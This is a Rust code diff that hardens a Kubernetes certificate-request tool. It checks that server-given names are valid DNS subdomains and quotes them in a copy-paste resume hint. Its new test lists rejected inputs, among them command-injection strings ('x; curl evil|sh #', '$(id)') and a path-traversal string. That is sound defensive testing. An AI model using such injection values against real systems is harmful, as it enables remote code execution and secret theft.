@@ -11,7 +11,7 @@ use serde_json::{Value, json};
 use crate::{
     duration,
     failure::Failure,
-    output::{inline, tell},
+    output::{inline, quoted, tell},
     server::{self, Server},
 };
 
@@ -50,10 +50,28 @@ impl Wish<'_> {
             .header(header::CONTENT_TYPE, "application/json")
             .body(Body::from(object.to_string()));
         let made = ask(server, request)?;
-        let name = made["metadata"]["name"].as_str().filter(|name| !name.is_empty());
-        name.map(str::to_owned)
-            .ok_or_else(|| Failure::failed("the server gave the certificate request no name"))
+        match made["metadata"]["name"].as_str().filter(|name| !name.is_empty()) {
+            None => Err(Failure::failed("the server gave the certificate request no name")),
+            Some(name) if !is_name(name) => {
+                let what = "the server gave the certificate request a name that no object can have";
+                Err(Failure::failed(what).note("name", format!("`{}`", inline(name))))
+            }
+            Some(name) => Ok(name.to_owned()),
+        }
     }
+}
+
+/// Whether this is a name that Kubernetes gives to objects: a DNS subdomain (RFC 1123). Nothing else goes
+/// into a path, or into a command that a person may paste.
+pub(super) fn is_name(name: &str) -> bool {
+    let of_label = |byte: u8| byte.is_ascii_lowercase() || byte.is_ascii_digit();
+    let label = |label: &str| {
+        let (first, last) = (label.bytes().next(), label.bytes().next_back());
+        first.is_some_and(of_label)
+            && last.is_some_and(of_label)
+            && label.bytes().all(|byte| of_label(byte) || byte == b'-')
+    };
+    name.len() <= 253 && name.split('.').all(label)
 }
 
 /// Waits until the request has its certificate, in PEM, or never will. A server that was heard is
@@ -112,7 +130,7 @@ pub(super) fn wait(
 
 /// Says how to go on after a failure: the request is still there.
 pub(super) fn later(failure: Failure, name: &str) -> Failure {
-    let go_on = format!("go on with it later by `--request {}`", inline(name));
+    let go_on = format!("go on with it later by `--request {}`", quoted(&inline(name)));
     let hint = match failure.advice() {
         Some(first) => format!("{first}\n{go_on}"),
         None => go_on,
@@ -179,6 +197,31 @@ mod tests {
             ("::", "keyward-"),
         ] {
             assert_eq!(prefix(user), name);
+        }
+    }
+
+    #[test]
+    fn a_name_that_no_object_can_have_is_no_name() {
+        for name in ["keyward-jane-x7k2p", "a", "a.b-c.d1", "0"] {
+            assert!(is_name(name), "{name}");
+        }
+        let long = "a".repeat(254);
+        for name in [
+            "x; curl evil|sh #",
+            "../../../api/v1/secrets",
+            "",
+            "a..b",
+            "-a",
+            "a-",
+            "A",
+            "a_b",
+            "a/b",
+            "a%2fb",
+            "$(id)",
+            "a\nb",
+            &long,
+        ] {
+            assert!(!is_name(name), "{name}");
         }
     }
 
